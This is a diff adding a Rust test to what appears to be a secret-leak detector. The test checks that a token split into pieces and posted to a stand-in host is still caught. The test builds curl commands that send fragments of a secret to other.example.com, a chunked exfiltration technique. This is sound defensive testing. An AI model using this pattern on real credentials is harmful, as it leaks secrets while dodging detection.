@@ -161,6 +161,27 @@ fn real_values_leave_in_requests_alone() {
 }
 
 #[test]
+fn what_leaves_in_pieces_is_put_together() {
+    if !has("curl") {
+        return;
+    }
+    let stage = Stage::new();
+    let value = secret(40);
+    let pieces: Vec<&str> = (0..5).map(|n| &value[8 * n..8 * n + 8]).collect();
+    let asks = pieces.iter().map(|piece| {
+        format!(
+            "curl -sS -o /dev/null -w '%{{http_code}} ' -d 'a piece: {piece}' https://other.example.com/;"
+        )
+    });
+    let script: String = asks.collect();
+    let run = stage.run(&[], &[("SOME_TOKEN", &value)], &["sh", "-c", &script]).exits_with(0);
+    let left = stage.server.requests().len();
+    // Which windows of a drawn value count depends on its characters, so it may take a piece more.
+    assert!((2..=3).contains(&left), "{run:#?}");
+    run.notes("secret detected in body (SOME_TOKEN, in pieces)");
+}
+
+#[test]
 fn the_policy_file_decides_too() {
     if !has("curl") {
         return;
